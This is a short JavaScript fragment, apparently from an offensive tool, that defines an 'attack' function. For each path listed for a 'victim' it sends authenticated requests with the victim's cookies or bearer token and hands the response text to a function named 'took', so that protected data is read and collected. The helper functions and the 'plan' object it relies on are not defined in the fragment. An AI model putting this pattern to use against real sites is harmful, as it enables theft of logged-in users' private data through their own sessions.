// Asks and reads what comes back.
const attack = (victim) =>
  each(victim.reads, async (path) => {
    const answer = await fetch(at(victim, path), { credentials: plan.cookies ? 'include' : 'omit', headers: plan.token ? { Authorization: `Bearer ${victim.token}` } : {} });
    await took(victim, await answer.text());
  });
